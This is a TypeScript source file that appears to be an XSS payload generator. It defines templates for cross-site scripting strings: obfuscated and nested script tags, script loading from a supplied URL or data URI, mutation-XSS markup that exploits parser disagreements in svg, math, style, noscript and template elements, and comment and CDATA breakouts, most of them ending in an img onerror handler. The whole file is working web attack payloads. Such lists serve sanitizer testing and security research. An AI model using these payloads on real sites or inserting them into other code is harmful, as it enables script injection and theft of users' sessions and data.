import type { Template } from './payload-template.ts';

const IMG: Template = ({ js }) => `<img src=x onerror=${js}>`;
const HIDDEN_IMG: Template = ({ js }) => `&lt;img src=x onerror=${js}&gt;`;

const scripts: readonly Template[] = [
  ({ js }) => `<script>${js}</script>`,
  ({ js }) => `<ScRiPt >${js}</sCrIpT >`,
  ({ js }) => `<script/x>${js}</script\n>`,
  ({ js }) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  ({ js }) => `<script src="data:text/javascript,${js}"></script>`,
  ({ url }) => `<script src="${url}"></script>`,
  ({ url }) => `<script type=module>import "${url}"</script>`,
  ({ js }) => `<script type=module src="data:text/javascript,${js}"></script>`,
  ({ js }) => `<svg><script>${js}</script></svg>`,
  ({ js }) => `<svg><script href="data:text/javascript,${js}" /></svg>`,
  ({ js }) => `<math><script>${js}</script></math>`,
  ({ js }) => `<script>${js}//`,
  ({ js }) => `<script><!--\n${js}\n//--></script>`,
  ({ js }) => `<script type="text/x-template">{{</script><script>${js}</script>`,
];

/** HTML that two parsers read differently: as text, attribute or element. */
const mutations: readonly Template[] = [
  (mark) => `<math><mtext><table><mglyph><style><!--</style><img title="--${HIDDEN_IMG(mark)}">`,
  (mark) => `<form><math><mtext></form><form><mglyph><style></math>${IMG(mark)}`,
  (mark) => `<svg></p><style><a id="</style>${IMG(mark)}">`,
  (mark) => `<svg><title><a id="</title>${IMG(mark)}">`,
  (mark) => `<svg><desc><style><a title="</style>${IMG(mark)}">`,
  (mark) => `<svg><foreignObject>${IMG(mark)}</foreignObject></svg>`,
  (mark) => `<math><annotation-xml encoding="text/html">${IMG(mark)}</annotation-xml></math>`,
  (mark) => `<noscript><p title="</noscript>${IMG(mark)}">`,
  (mark) => `<noscript><style></noscript>${IMG(mark)}</style>`,
  (mark) => `<template>${IMG(mark)}</template>`,
  (mark) => `<select><template>${IMG(mark)}</template></select>`,
  (mark) => `<style><a title="</style>${IMG(mark)}">`,
  (mark) => `<title><a title="</title>${IMG(mark)}">`,
  (mark) => `<textarea><a title="</textarea>${IMG(mark)}">`,
  (mark) => `<iframe><a title="</iframe>${IMG(mark)}">`,
  (mark) => `<xmp><a title="</xmp>${IMG(mark)}">`,
  (mark) => `<noembed><a title="</noembed>${IMG(mark)}">`,
  (mark) => `<noframes><a title="</noframes>${IMG(mark)}">`,
  (mark) => `<plaintext>${IMG(mark)}`,
  (mark) => `<option><style></option></select>${IMG(mark)}</style>`,
  (mark) => `<table><td>${IMG(mark)}<table><a title="${HIDDEN_IMG(mark)}">`,
  (mark) => `<a title="${HIDDEN_IMG(mark)}">a</a>`,
  (mark) => `<img alt="${HIDDEN_IMG(mark)}" src=x>`,
  (mark) => `<p lang="&quot;>${HIDDEN_IMG(mark)}">a</p>`,
  (mark) => `<p lang='"${IMG(mark)}'>a</p>`,
  (mark) => `<p lang=\`"\`${IMG(mark)}>a</p>`,
  (mark) => `${'<div>'.repeat(40)}${IMG(mark)}`,
];

const comments: readonly Template[] = [
  (mark) => `<!-->${IMG(mark)}-->`,
  (mark) => `<!--->${IMG(mark)}-->`,
  (mark) => `<!-- --!>${IMG(mark)}-->`,
  (mark) => `<!-- <!-- -->${IMG(mark)} -->`,
  (mark) => `<!--[if true]>${IMG(mark)}<![endif]-->`,
  (mark) => `<!a "--${IMG(mark)}">`,
  (mark) => `<?php "?>${IMG(mark)}"?>`,
  (mark) => `</ x="${IMG(mark)}">`,
  (mark) => `<![CDATA[><a>]]>${IMG(mark)}`,
  (mark) => `<svg><![CDATA[</svg>${IMG(mark)}]]>`,
  (mark) => `<!doctype a [<!ENTITY b "${HIDDEN_IMG(mark)}">]>&b;`,
];

/** Elements whose contents are parsed differently from how they are written. */
export const confusions: readonly Template[] = [...scripts, ...mutations, ...comments];
